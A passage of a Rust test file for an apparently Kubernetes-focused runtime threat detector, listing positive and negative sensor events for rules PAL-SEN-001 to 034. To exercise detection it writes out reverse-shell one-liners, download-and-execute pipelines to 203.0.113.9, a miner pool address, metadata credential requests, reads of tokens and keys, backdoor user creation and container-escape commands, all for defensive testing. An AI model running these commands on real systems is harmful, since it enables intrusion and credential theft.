    attack: {tactics: [TA0005], techniques: [T1550.001]}
    match: {users: ["system:serviceaccount:*"], subresources: ["*"]}
    condition: "true"
    stateful: {kind: first_seen, key: [ka.user.name, ka.sourceIP], learning: 10m}
    output: "%ka.user.name from %ka.sourceIP"
    remediation: [Check the address.]
"#,
        "corp.yaml",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let ev = |ip: &str, t: i64| B::new("list", "pods").sa("shop", "web").ip(ip).at(t).build();
    let seq = [
        ev("10.244.1.5", T0),               // learning
        ev("10.244.1.6", T0 + 60_000_000),  // learning
        ev("10.244.1.5", T0 + 900_000_000), // known
        ev("10.244.9.9", T0 + 901_000_000), // new: alert
        ev("10.244.9.9", T0 + 902_000_000), // known now
    ];
    let mut eng = Engine::new(&rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
    let mut hits = Vec::new();
    for (i, e) in seq.iter().enumerate() {
        let mut out = Vec::new();
        eng.process(&Event::Audit(parse_event(e).unwrap()), &mut out);
        if out.iter().any(|a| a.rule.id == "CORP-010") {
            hits.push(i);
        }
    }
    assert_eq!(hits, vec![3]);
}

// ---------------------------------------------------------------------------------------------
// Node sensor rule catalogue: every sensor rule against events shaped as the sensor fills them
// (host-side ancestors included, busybox applets with exe /bin/busybox and comm = the applet).

use palisade_detect::event::SyscallInfo;

const HOUR: i64 = 3_600_000_000;
const O_WRONLY_CREAT_TRUNC: i64 = 0o1101;
const O_WRONLY_CREAT_APPEND: i64 = 0o2101;
const SHIM: &str = "/usr/bin/containerd-shim-runc-v2";
const INIT: &str = "/usr/lib/systemd/systemd";
const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";

/// A sensor event under construction; an exec in a container unless told otherwise.
#[derive(Clone, Debug)]
struct Ev(SensorEvent);

/// `exe args…` exec'd in container `prod/api-0`, by a shell, under the runtime shim.
fn exec(exe: &str, args: &[&str]) -> Ev {
    let mut e = sensor(SensorKind::Process, exe, args);
    e.process.comm = exe.rsplit('/').next().unwrap_or("").chars().take(15).collect();
    e.process.cwd = "/app".into();
    e.process.tid = e.process.pid;
    Ev(e).parent("/bin/sh")
}

/// A busybox applet: exe is the busybox binary, comm the applet name.
fn bb(applet: &str, args: &[&str]) -> Ev {
    exec("/bin/busybox", args).comm(applet)
}

impl Ev {
    fn e(self) -> SensorEvent {
        self.0
    }
    fn tail(&self) -> Vec<String> {
        if self.0.entity.container_id.is_empty() {
            vec![INIT.into()]
        } else {
            vec![SHIM.into(), INIT.into()]
        }
    }
    /// Sets the parent (and the ancestry: parent, then the runtime shim and init).
    fn parent(self, exe: &str) -> Self {
        self.ancestry(&[exe])
    }
    /// Sets the ancestry inside the container (parent first); the host tail is appended.
    fn ancestry(mut self, chain: &[&str]) -> Self {
        let mut a: Vec<String> = chain.iter().map(|s| s.to_string()).collect();
        a.extend(self.tail());
        self.0.process.parent_exe = chain.first().map(|s| s.to_string()).unwrap_or_default();
        self.0.process.ancestors = a;
        self
    }
    /// A host process (no container), under init.
    fn host(mut self) -> Self {
        self.0.entity = Entity { cluster: "c".into(), ..Default::default() };
        self.0.process.ancestors.retain(|a| a != SHIM);
        self
    }
    fn image(mut self, image: &str) -> Self {
        self.0.entity.image = image.into();
        self
    }
    fn comm(mut self, c: &str) -> Self {
        self.0.process.comm = c.into();
        self
    }
    fn tty(mut self) -> Self {
        self.0.process.tty = true;
        self
    }
    fn sock(mut self) -> Self {
        self.0.process.stdio_socket = true;
        self
    }
    fn uid(mut self, u: i64) -> Self {
        self.0.process.uid = u;
        self.0.process.euid = u;
        self
    }
    fn ppid(mut self, p: i64) -> Self {
        self.0.process.ppid = p;
        self
    }
    fn fileless(mut self) -> Self {
        self.0.process.fileless = true;
        self
    }
    fn drift(mut self) -> Self {
        self.0.process.drift = true;
        self.0.process.upper_layer = true;
        self
    }
    fn at(mut self, t: i64) -> Self {
        self.0.time_us = t;
        self
    }
    /// A file event by this process: `open` is read-only, `write` a truncating write (`>`).
    fn file(mut self, op: &str, path: &str) -> Self {
        self.0.kind = SensorKind::File;
        let flags = if op == "write" { O_WRONLY_CREAT_TRUNC } else { 0 };
        self.0.file = Some(FileInfo { path: path.into(), op: op.into(), flags, ..Default::default() });
        self
    }
    /// An appending write (`>>`).
    fn append(self, path: &str) -> Self {
        self.file("write", path).flags(O_WRONLY_CREAT_APPEND)
    }
    fn flags(mut self, f: i64) -> Self {
        if let Some(x) = self.0.file.as_mut() {
            x.flags = f;
        }
        self
    }
    fn rename(mut self, from: &str, to: &str) -> Self {
        self = self.file("rename", from);
        if let Some(x) = self.0.file.as_mut() {
            x.new_path = to.into();
        }
        self
    }
    fn chmod(mut self, path: &str, mode: i64) -> Self {
        self = self.file("chmod", path);
        if let Some(x) = self.0.file.as_mut() {
            x.mode = mode;
        }
        self
    }
    /// A TCP connect to `ip:port`.
    fn connect(mut self, ip: &str, port: u16) -> Self {
        self.0.kind = SensorKind::Network;
        self.0.network = Some(NetworkInfo {
            family: if ip.contains(':') { "inet6" } else { "inet" }.into(),
            direction: "connect".into(),
            protocol: "tcp".into(),
            src_ip: "10.244.1.5".into(),
            src_port: 40000,
            dst_ip: ip.into(),
            dst_port: port,
            ..Default::default()
        });
        self
    }
    /// A connect to a unix socket.
    fn unix(mut self, path: &str) -> Self {
        self.0.kind = SensorKind::Network;
        self.0.network = Some(NetworkInfo {
            family: "unix".into(),
            direction: "connect".into(),
            protocol: "unix".into(),
            unix_path: path.into(),
            ..Default::default()
        });
        self
    }
    /// A syscall event by this process.
    fn sys(mut self, name: &str) -> Self {
        self.0.kind = SensorKind::Syscall;
        self.0.syscall = Some(SyscallInfo { name: name.into(), ..Default::default() });
        self
    }
    fn with_sys(mut self, f: impl FnOnce(&mut SyscallInfo)) -> Self {
        if let Some(s) = self.0.syscall.as_mut() {
            f(s);
        }
        self
    }
    fn sflags(self, flags: i64) -> Self {
        self.with_sys(|s| s.flags = flags)
    }
    fn ptrace(self, request: i64, target: i64) -> Self {
        self.sys("ptrace").with_sys(|s| {
            s.request = request;
            s.target_pid = target;
        })
    }
    fn ids(self, ids: &[i64]) -> Self {
        let ids = ids.to_vec();
        self.with_sys(|s| s.ids = ids)
    }
    fn mount(self, source: &str, target: &str, fstype: &str) -> Self {
        self.sys("mount").with_sys(|s| {
            s.source = source.into();
            s.target = target.into();
            s.fstype = fstype.into();
        })
    }
    fn module(self, call: &str, source: &str) -> Self {
        self.sys(call).with_sys(|s| s.source = source.into())
    }
}

struct SensorCase {
    id: &'static str,
    /// Events fed to the same engine first (learning periods of first_seen rules).
    warm: Vec<SensorEvent>,
    pos: Vec<SensorEvent>,
    neg: Vec<SensorEvent>,
}

fn sc(id: &'static str, pos: Vec<Ev>, neg: Vec<Ev>) -> SensorCase {
    SensorCase {
        id,
        warm: Vec::new(),
        pos: pos.into_iter().map(Ev::e).collect(),
        neg: neg.into_iter().map(Ev::e).collect(),
    }
}

fn sensor_cases() -> Vec<SensorCase> {
    let later = T0 + 2 * HOUR;
    vec![
        sc(
            "PAL-SEN-001",
            vec![
                exec("/bin/bash", &["bash"]).parent(SHIM),
                bb("sh", &["sh"]).parent(SHIM),
                exec("/bin/sh", &["/bin/sh", "-i"]).parent("/usr/sbin/php-fpm8.2"),
            ],
            vec![
                exec("/bin/sh", &["sh", "-c", "echo ready"]),
                exec("/bin/sh", &["/bin/sh", "/docker-entrypoint.sh", "nginx"]),
                exec("/bin/bash", &["bash"]).tty(),
                exec("/bin/bash", &["bash"]).sock(),
                exec("/bin/bash", &["bash"]).ppid(1),
                exec("/bin/bash", &["bash"]).host(),
                exec("/usr/bin/python3", &["python3"]),
            ],
        ),
        sc(
            "PAL-SEN-002",
            vec![
                exec("/tmp/.x/xmrig", &["xmrig"]),
                exec("/usr/local/bin/kworker", &["kworker", "--donate-level", "1", "-o", "pool.example.net:443"]),
                exec("/var/tmp/k", &["k", "-o", "stratum+ssl://pool.example.net:14433"]).host(),
            ],
            vec![
                exec("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
                exec("/usr/bin/stress-ng", &["stress-ng", "--cpu", "4"]),
            ],
        ),
        sc(
            "PAL-SEN-003",
            vec![
                exec("/bin/sh", &["sh"]).file("write", "/host/etc/kubernetes/manifests/x.yaml"),
                bb("cp", &["cp", "/tmp/p.yaml", "/etc/kubernetes/manifests/p.yaml"]).file("write", "/etc/kubernetes/manifests/p.yaml"),
                exec("/usr/bin/mv", &["mv", "/var/lib/kubelet/.c", "/var/lib/kubelet/config.yaml"])
                    .rename("/var/lib/kubelet/.c", "/var/lib/kubelet/config.yaml"),
            ],
            vec![
                exec("/bin/aws-ebs-csi-driver", &["aws-ebs-csi-driver", "node"])
                    .file("write", "/var/lib/kubelet/pods/7d1c/volumes/kubernetes.io~csi/pv-1/vol_data.json"),
                exec("/usr/bin/ssh", &["ssh", "git@example.com"]).file("write", "/root/.ssh/known_hosts"),
                exec("/usr/bin/kubelet", &["kubelet"]).host().file("write", "/var/lib/kubelet/cpu_manager_state"),
                exec("/usr/local/bin/kube-apiserver", &["kube-apiserver"]).file("write", "/etc/kubernetes/pki/x"),
                exec("/bin/sh", &["sh"]).file("write", "/tmp/x"),
                exec("/usr/bin/mv", &["mv", "/tmp/k", "/root/.ssh/authorized_keys"]).rename("/tmp/k", "/root/.ssh/authorized_keys"),
            ],
        ),
        sc(
            "PAL-SEN-004",
            vec![exec("/tmp/kworker", &["kworker"]).connect("198.51.100.9", 3333)],
            vec![
                exec("/tmp/kworker", &["kworker"]).connect("198.51.100.9", 443),
                exec("/usr/bin/java", &["java", "-jar", "grid.jar"]).connect("10.0.3.7", 4444),
            ],
        ),
        sc(
            "PAL-SEN-005",
            vec![exec("/bin/bash", &["bash"]).parent(SHIM).tty(), bb("sh", &["sh", "-c", "ls"]).tty()],
            vec![exec("/bin/bash", &["bash"]).tty().host(), exec("/usr/bin/python3", &["python3"]).tty()],
        ),
        sc(
            "PAL-SEN-006",
            vec![
                exec("/bin/sh", &["sh", "-i"]).parent("/usr/bin/nc").sock(),
                exec("/usr/bin/python3", &["python3"]).parent("/usr/bin/socat").sock(),
                exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]),
                exec(
                    "/usr/bin/perl",
                    &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton('203.0.113.9')));open(STDIN,'>&S');exec('/bin/sh -i');"],
                ),
                exec(
                    "/usr/bin/python3",
                    &["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"],
                )
                .host(),
            ],
            vec![
                exec("/bin/sh", &["sh", "-c", "exec /usr/bin/app"]).host().sock(),
                exec("/bin/sh", &["/bin/sh", "-c", "gunicorn --bind unix:/tmp/gunicorn.socket app:app"]),
                exec("/bin/bash", &["bash", "-c", "exec 3<>/dev/tcp/localhost/8080; echo -e 'GET /healthz HTTP/1.0\\n' >&3; cat <&3"]),
                exec("/bin/sh", &["/bin/sh", "-c", "git rev-parse HEAD"]).parent("/usr/local/bin/node").sock(),
                exec("/bin/bash", &["bash", "-c", "timeout 1 bash -c '</dev/tcp/localhost/8080'"]),
                exec("/usr/bin/python3", &["python3", "-c", "import socket; socket.create_connection(('db', 5432))"]),
                exec("/bin/bash", &["bash"]).ancestry(&["/usr/sbin/sshd", "/usr/sbin/sshd"]).sock(),
                exec("/usr/bin/nc", &["nc", "203.0.113.9", "80"]).sock(),
            ],
        ),
        sc(
            "PAL-SEN-007",
            vec![
                bb("nc", &["nc", "10.0.0.5", "80"]),
                exec("/usr/bin/socat", &["socat", "TCP-LISTEN:8080,fork", "TCP:db:5432"]),
            ],
            vec![
                bb("nc", &["nc", "10.0.0.5", "80"]).host(),
                bb("nc", &["nc", "203.0.113.9", "4444", "-e", "/bin/sh"]),
                bb("nc", &["nc", "-zv", "10.0.0.5", "1-1024"]),
                exec("/usr/bin/curl", &["curl", "http://10.0.0.5/"]),
                bb("nc", &["nc", "-z", "db", "5432"]),
            ],
        ),
        sc(
            "PAL-SEN-008",
            vec![
                bb("nc", &["nc", "203.0.113.9", "4444", "-e", "/bin/sh"]),
                exec("/usr/bin/ncat", &["ncat", "--sh-exec", "bash -i", "203.0.113.9", "443"]),
                exec("/usr/bin/socat", &["socat", "tcp:203.0.113.9:4444", "exec:bash -li,pty,stderr"]).host(),
                exec("/bin/nc.traditional", &["nc", "-lvp", "4444", "-c", "/bin/bash"]),
            ],
            vec![
                exec("/usr/bin/nc", &["nc", "-lvnp", "4444"]),
                exec("/usr/bin/socat", &["socat", "TCP-LISTEN:8080,fork", "TCP:db:5432"]),
                exec("/usr/bin/curl", &["curl", "-e", "http://ref.example/", "http://x/"]),
            ],
        ),
        sc(
            "PAL-SEN-009",
            vec![
                exec("/bin/sh", &["sh", "-c", "id"]).ancestry(&["/usr/sbin/php-fpm8.2", "/usr/sbin/php-fpm8.2"]),
                exec("/bin/bash", &["bash", "-c", "curl http://x | sh"]).parent("/opt/java/openjdk/bin/java"),
                bb("sh", &["sh", "-c", "cat /etc/passwd"]).ancestry(&["/usr/sbin/nginx", "/usr/sbin/nginx"]),
                exec("/bin/sh", &["sh", "-c", "uname -a"]).ancestry(&["/usr/local/bin/uwsgi", "/usr/local/bin/uwsgi"]),
            ],
            vec![
                exec("/bin/sh", &["sh", "-c", "node server.js"]).parent("/usr/local/bin/node"),
                exec("/bin/sh", &["sh", "-c", "/usr/sbin/sendmail -t -i"]).parent("/usr/sbin/php-fpm8.2"),
                exec("/bin/sh", &["sh", "-c", "id"]).parent("/usr/bin/python3"),
                exec("/bin/sh", &["sh", "-c", "id"]).parent("/usr/sbin/nginx").host(),
                exec("/usr/bin/convert", &["convert", "a.png", "b.jpg"]).parent("/usr/sbin/php-fpm8.2"),
            ],
        ),
        sc(
            "PAL-SEN-010",
            vec![
                exec("/bin/sh", &["sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"]),
                bb("sh", &["sh", "-c", "wget -q -O- http://203.0.113.9/i.sh|bash -s"]),
                exec("/bin/sh", &["sh", "-c", "cd /tmp; wget http://203.0.113.9/bot; chmod +x bot; ./bot"]).host(),
                exec("/bin/sh", &["sh", "-c", "curl -so /tmp/k http://203.0.113.9/k && chmod 755 /tmp/k && /tmp/k"]),
                exec("/usr/bin/python3", &["python3", "-c", "import os; os.system('curl http://203.0.113.9/a | python3')"]),
                exec("/bin/sh", &["sh", "-c", "bash -c \"$(curl -fsSL http://203.0.113.9/i.sh)\""]),
                exec("/bin/bash", &["bash", "-c", "bash <(wget -qO- http://203.0.113.9/i.sh)"]),
            ],
            vec![
                exec("/bin/sh", &["sh", "-c", "curl -fsS http://localhost:8080/healthz || exit 1"]),
                exec("/bin/sh", &["sh", "-c", "wget -O /tmp/x.tgz http://mirror/x.tgz && tar xzf /tmp/x.tgz"]),
                exec("/bin/sh", &["sh", "-c", "curl -s http://localhost:9000/status | jq .ok"]),
                exec("/bin/sh", &["sh", "-c", "curl -o out.json http://api/x; chmod 644 out.json"]),
                exec("/bin/sh", &["sh", "-c", "VERSION=$(curl -s https://api.example/v) && echo $VERSION"]),
                exec("/usr/bin/git", &["git", "fetch", "origin"]),
            ],
        ),
        sc(
            "PAL-SEN-011",
            vec![
                bb("chmod", &["chmod", "+x", "/tmp/x"]).chmod("/tmp/x", 0o755),
                exec("/bin/chmod", &["chmod", "700", "/dev/shm/.x"]).chmod("/dev/shm/.x", 0o700),
            ],
            vec![
                exec("/bin/chmod", &["chmod", "755", "/app/run.sh"]).chmod("/app/run.sh", 0o755),
                exec("/bin/chmod", &["chmod", "755", "/tmp/x"]).chmod("/tmp/x", 0o755).host(),
                exec("/bin/chmod", &["chmod", "644", "/tmp/x"]).chmod("/tmp/x", 0o644),
            ],
        ),
        sc(
            "PAL-SEN-012",
            vec![
                exec("/tmp/x", &["/tmp/x"]),
                exec("/var/tmp/.cache/kworker", &["kworker"]).host(),
                exec("/usr/bin/python3", &["python3", "/tmp/p.py"]),
                bb("sh", &["sh", "/tmp/s.sh"]),
            ],
            vec![
                exec("/tmp/go-build4121/b001/exe/main", &["main"]).host(),
                exec("/usr/bin/python3", &["python3", "/app/main.py"]),
                exec("/usr/bin/python3", &["python3", "/app/main.py", "--output", "/tmp/out.json"]),
                exec("/usr/bin/python3", &["python3", "/tmp/p.py"]).host(),
                exec("/bin/cp", &["cp", "/app/x", "/tmp/x"]),
            ],
        ),
        sc(
            "PAL-SEN-013",
            vec![
                exec("/dev/shm/x", &["x"]),
                exec("/dev/shm/.k/kworker", &["[kworker/0:2]"]).host(),
                bb("sh", &["sh", "/dev/shm/s.sh"]),
            ],
            vec![exec("/bin/ls", &["ls", "/dev/shm/"]), exec("/run/app/x", &["x"])],
        ),
        sc(
            "PAL-SEN-014",
            vec![
                exec("/memfd:payload (deleted)", &["[kworker/u4:2]"]).fileless(),
                exec("/tmp/x (deleted)", &["x"]).fileless().host(),
            ],
            vec![
                exec("/memfd:runc_cloned:/proc/self/exe (deleted)", &["runc", "init"]).comm("runc:[2:INIT]").fileless(),
                exec("/usr/bin/python3", &["python3"]),
            ],
        ),
        sc(
            "PAL-SEN-015",
            vec![
                exec("/usr/bin/nmap", &["nmap", "-sS", "10.0.0.0/24"]),
                bb("nc", &["nc", "-zv", "10.0.0.5", "1-1024"]),
                exec("/usr/bin/masscan", &["masscan", "-p1-65535", "10.0.0.0/8"]).host(),
                exec("/usr/bin/nc", &["nc", "-z", "-w1", "10.0.0.5", "22", "80", "443"]),
            ],
            vec![bb("nc", &["nc", "10.0.0.5", "80"]), bb("nc", &["nc", "-z", "db", "5432"]), bb("ping", &["ping", "-c1", "10.0.0.5"])],
        ),
        sc(
            "PAL-SEN-016",
            vec![
                exec("/usr/local/bin/kubectl", &["kubectl", "get", "secrets", "-A"]),
                exec("/usr/local/bin/kubectl-1.30", &["kubectl-1.30", "auth", "can-i", "--list"]),
                exec("/tmp/peirates", &["peirates"]),
            ],
            vec![
                exec("/usr/local/bin/helm", &["helm", "template", "."])
                    .ancestry(&["/usr/local/bin/argocd-repo-server", "/usr/bin/tini"]),
                exec("/usr/local/bin/kubectl", &["kubectl", "get", "pods"]).host(),
                exec("/usr/bin/curl", &["curl", "http://x/"]),
            ],
        ),
        sc(
            "PAL-SEN-017",
            vec![
                exec("/usr/local/bin/crictl", &["crictl", "ps"]),
                exec("/usr/bin/docker", &["docker", "run", "-v", "/:/host", "alpine"]),
                exec("/usr/bin/runc", &["runc", "--root", "/host/run/containerd/runc/k8s.io", "list"]),
            ],
            vec![
                exec("/usr/bin/runc", &["runc", "init"]).comm("runc:[2:INIT]").parent(SHIM),
                exec("/usr/bin/docker", &["docker", "ps"]).host(),
                exec("/usr/bin/buildkit-runc", &["buildkit-runc", "run", "x"]).parent("/usr/bin/buildkitd"),
            ],
        ),
        sc(
            "PAL-SEN-018",
            vec![
                exec("/usr/bin/curl", &["curl", "-sk", "https://10.0.0.11:10250/pods"]).connect("10.0.0.11", 10250),
                exec("/usr/bin/python3", &["python3", "x.py"]).connect("10.0.0.11", 10255),
            ],
            vec![
                exec("/metrics-server", &["/metrics-server"]).connect("10.0.0.11", 10250),
                exec("/opt/datadog-agent/bin/agent/agent", &["agent", "run"]).connect("10.0.0.11", 10250),
                exec("/usr/bin/curl", &["curl", "https://10.0.0.11:10250/pods"]).connect("10.0.0.11", 10250).host(),
                exec("/usr/bin/curl", &["curl", "https://10.0.0.11/"]).connect("10.0.0.11", 443),
            ],
        ),
        sc(
            "PAL-SEN-019",
            vec![
                exec("/usr/bin/curl", &["curl", "-k", "https://10.96.0.1/api/v1/secrets"]).connect("10.96.0.1", 443),
                bb("wget", &["wget", "https://192.168.1.10:6443/api"]).connect("192.168.1.10", 6443),
            ],
            vec![
                exec("/usr/bin/python3", &["python3", "app.py"]).connect("10.96.0.1", 443),
                exec("/usr/bin/curl", &["curl", "https://10.96.0.10/"]).connect("10.96.0.10", 443),
                exec("/usr/bin/curl", &["curl", "https://10.96.0.1/"]).connect("10.96.0.1", 443).host(),
            ],
        ),
        sc(
            "PAL-SEN-020",
            vec![
                exec("/usr/bin/curl", &["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"])
                    .connect("169.254.169.254", 80),
                bb("wget", &["wget", "-qO-", "http://169.254.169.254/computeMetadata/v1/"]).connect("169.254.169.254", 80),
                exec("/usr/bin/python3", &["python3"]).tty().connect("fd00:ec2::254", 80),
                exec("/usr/bin/curl", &["curl", "http://100.100.100.200/latest/meta-data/"]).connect("100.100.100.200", 80),
            ],
            vec![
                exec("/usr/bin/python3", &["python3", "app.py"]).connect("169.254.169.254", 80),
                exec("/usr/bin/curl", &["curl", "http://169.254.169.253/"]).connect("169.254.169.253", 53),
                exec("/usr/bin/curl", &["curl", "http://169.254.169.254/"]).connect("169.254.169.254", 80).host(),
            ],
        ),
        SensorCase {
            id: "PAL-SEN-021",
            warm: vec![exec("/usr/bin/python3", &["python3", "app.py"]).connect("169.254.169.254", 80).e()],
            pos: vec![exec("/app/exporter", &["/app/exporter"]).connect("169.254.169.254", 80).at(later).e()],
            neg: vec![
                exec("/usr/bin/python3", &["python3", "app.py"]).connect("169.254.169.254", 80).at(later).e(),
                exec("/usr/bin/curl", &["curl", "http://169.254.169.254/"]).connect("169.254.169.254", 80).at(later).e(),
                exec("/app/exporter", &["/app/exporter"]).connect("169.254.169.254", 80).host().at(later).e(),
            ],
        },
        sc(
            "PAL-SEN-022",
            vec![
                bb("cat", &["cat", TOKEN]).file("open", TOKEN),
                exec("/usr/bin/curl", &["curl", "-H", "@/tmp/h", "https://10.96.0.1/"])
                    .file("open", "/run/secrets/kubernetes.io/serviceaccount/token"),
                exec("/usr/bin/python3", &["python3"]).tty().file("open", "/var/run/secrets/kubernetes.io/serviceaccount/..data/token"),
            ],
            vec![
                exec("/app/server", &["/app/server"]).file("open", TOKEN),
                bb("cat", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"])
                    .file("open", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"),
                bb("cat", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"])
                    .file("open", "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"),
            ],
        ),
        SensorCase {
            id: "PAL-SEN-023",
            warm: vec![exec("/app/server", &["/app/server"]).file("open", TOKEN).e()],
            pos: vec![exec("/usr/local/bin/sidecar", &["sidecar"]).file("open", TOKEN).at(later).e()],
            neg: vec![
                exec("/app/server", &["/app/server"]).file("open", TOKEN).at(later).e(),
                bb("cat", &["cat", TOKEN]).file("open", TOKEN).at(later).e(),
            ],
        },
        sc(
            "PAL-SEN-024",
            vec![
                exec("/usr/bin/find", &["find", "/", "-name", "id_rsa"]),
                exec("/bin/grep", &["grep", "-r", "BEGIN RSA PRIVATE KEY", "/home"]).host(),
                bb("find", &["find", "/", "-name", "*.pem"]),
                exec("/usr/bin/find", &["find", "/", "-name", "kubeconfig"]),
            ],
            vec![
                exec("/usr/bin/find", &["find", "/etc/ssl/certs", "-name", "*.pem"]),
                exec("/bin/grep", &["grep", "-r", "TODO", "/app"]),
                exec("/usr/bin/find", &["find", "/var/log", "-name", "*.log", "-mtime", "+7"]),
            ],
        ),
        sc(
            "PAL-SEN-025",
            vec![
                bb("cat", &["cat", "/root/.kube/config"]).file("open", "/root/.kube/config"),
                exec("/usr/bin/python3", &["python3", "x.py"]).file("open", "/home/app/.ssh/id_rsa"),
                exec("/bin/cat", &["cat", "/root/.ssh/id_ed25519"]).host().file("open", "/root/.ssh/id_ed25519"),
            ],
            vec![
                exec("/usr/bin/ssh", &["ssh", "git@example.com"]).file("open", "/root/.ssh/id_rsa"),
                exec("/usr/local/bin/kubectl", &["kubectl", "get", "pods"]).file("open", "/root/.kube/config"),
                exec("/usr/bin/python3", &["python3", "deploy.py"]).host().file("open", "/home/ops/.kube/config"),
                bb("cat", &["cat", "/root/.ssh/id_rsa.pub"]).file("open", "/root/.ssh/id_rsa.pub"),
            ],
        ),
        sc(
            "PAL-SEN-026",
            vec![
                bb("cat", &["cat", "/etc/shadow"]).file("open", "/etc/shadow"),
                exec("/usr/bin/python3", &["python3", "dump.py"]).host().file("open", "/etc/shadow"),
                exec("/usr/bin/cp", &["cp", "/etc/gshadow", "/tmp/g"]).file("open", "/etc/gshadow"),
            ],
            vec![
                exec("/usr/sbin/sshd", &["sshd: alice"]).host().file("open", "/etc/shadow"),
                exec("/usr/sbin/unix_chkpwd", &["unix_chkpwd", "alice", "nullok"]).host().file("open", "/etc/shadow"),
                exec("/usr/bin/passwd", &["passwd", "alice"]).host().file("write", "/etc/shadow"),
                bb("cat", &["cat", "/etc/passwd"]).file("open", "/etc/passwd"),
            ],
        ),
        sc(
            "PAL-SEN-027",
            vec![
                exec("/bin/sh", &["sh", "-c", "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"])
                    .append("/root/.ssh/authorized_keys"),
                exec("/usr/bin/mv", &["mv", "/tmp/k", "/home/ubuntu/.ssh/authorized_keys"])
                    .host()
                    .rename("/tmp/k", "/home/ubuntu/.ssh/authorized_keys"),
                exec("/usr/bin/mv", &["mv", "/tmp/k", "/root/.ssh/authorized_keys"]).rename("/tmp/k", "/root/.ssh/authorized_keys"),
            ],
            vec![
                exec("/usr/bin/google_guest_agent", &["google_guest_agent"])
                    .host()
                    .file("write", "/home/alice/.ssh/authorized_keys"),
                exec("/usr/sbin/sshd", &["sshd"]).host().file("open", "/home/alice/.ssh/authorized_keys"),
            ],
        ),
        sc(
            "PAL-SEN-028",
            vec![
                bb("adduser", &["adduser", "-D", "-u", "0", "backdoor"]),
                exec("/usr/sbin/useradd", &["useradd", "-o", "-u", "0", "svc"]),
                exec("/usr/sbin/chpasswd", &["chpasswd"]),
            ],
            vec![
                exec("/usr/sbin/useradd", &["useradd", "app"]).ancestry(&["/bin/sh", "/kaniko/executor"]),
                exec("/usr/sbin/useradd", &["useradd", "alice"]).host(),
                exec("/usr/bin/id", &["id"]),
            ],
        ),
        sc(
            "PAL-SEN-029",
            vec![
                bb("sh", &["sh", "-c", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd"]).append("/etc/passwd"),
                exec("/bin/sed", &["sed", "-i", "s/^root:x/root:/", "/etc/passwd"]).rename("/etc/sedAb12Cd", "/etc/passwd"),
                exec("/usr/bin/python3", &["python3", "x.py"]).host().file("write", "/etc/shadow"),
            ],
            vec![
                exec("/usr/sbin/useradd", &["useradd", "app"]).rename("/etc/passwd+", "/etc/passwd"),
                exec("/usr/bin/dpkg", &["dpkg", "--configure", "-a"]).host().file("write", "/etc/group"),
                exec("/bin/sh", &["sh"]).ancestry(&["/kaniko/executor"]).append("/etc/passwd"),
                exec("/bin/sh", &["sh"]).append("/etc/hosts"),
            ],
        ),
        sc(
            "PAL-SEN-030",
            vec![
                bb("unshare", &["unshare", "-U", "-r", "sh"]).sys("unshare").sflags(0x1000_0000),
                exec("/usr/bin/python3", &["python3", "x.py"]).sys("unshare").sflags(0x0002_0000 | 0x0400_0000),
            ],
            vec![
                bb("unshare", &["unshare", "-n", "sh"]).sys("unshare").sflags(0x4000_0000),
                exec("/opt/google/chrome/chrome", &["chrome", "--headless"]).sys("unshare").sflags(0x1000_0000),
                bb("unshare", &["unshare", "-U", "sh"]).host().sys("unshare").sflags(0x1000_0000),
                exec("/usr/bin/runc", &["runc", "init"]).comm("runc:[1:CHILD]").sys("unshare").sflags(0x1000_0000),
            ],
        ),
        sc(
            "PAL-SEN-031",
            vec![
                bb("nsenter", &["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"]).sys("setns").sflags(0x0002_0000),
                exec("/tmp/x", &["x"]).sys("setns"),
            ],
            vec![
                exec("/usr/bin/cilium-agent", &["cilium-agent"]).sys("setns").sflags(0x4000_0000),
                exec("/usr/bin/runc", &["runc", "init"]).comm("runc:[2:INIT]").sys("setns"),
                bb("nsenter", &["nsenter", "-t", "1", "-m", "sh"]).host().sys("setns"),
                bb("nsenter", &["nsenter", "-t", "1", "-m", "sh"]).image("quay.io/cilium/cilium:v1.15.6").sys("setns"),
            ],
        ),
        sc(
            "PAL-SEN-032",
            vec![
                bb("sh", &["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"]).file("write", "/tmp/cgrp/release_agent"),
                exec("/bin/bash", &["bash"]).host().file("write", "/sys/fs/cgroup/rdma/release_agent"),
            ],
            vec![
                exec("/usr/lib/systemd/systemd", &["/sbin/init"]).host().file("write", "/sys/fs/cgroup/systemd/release_agent"),
                bb("cat", &["cat", "/tmp/cgrp/release_agent"]).file("open", "/tmp/cgrp/release_agent"),
            ],
        ),
        sc(
            "PAL-SEN-033",
            vec![
                bb("sh", &["sh", "-c", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"]).file("write", "/proc/sys/kernel/core_pattern"),
                exec("/usr/bin/python3", &["python3", "x.py"]).host().file("write", "/proc/sys/kernel/core_pattern"),
            ],
            vec![
                exec("/usr/lib/systemd/systemd-sysctl", &["systemd-sysctl"]).host().file("write", "/proc/sys/kernel/core_pattern"),
                bb("cat", &["cat", "/proc/sys/kernel/core_pattern"]).file("open", "/proc/sys/kernel/core_pattern"),
            ],
        ),
        sc(
            "PAL-SEN-034",
            vec![
                bb("mount", &["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/cgrp"]).mount("cgroup", "/tmp/cgrp", "cgroup"),
                bb("mount", &["mount", "/dev/sda1", "/mnt"]).mount("/dev/sda1", "/mnt", "ext4"),
                exec("/usr/bin/python3", &["python3", "x.py"]).mount("/dev/nvme0n1p1", "/host", "xfs"),
            ],
            vec![
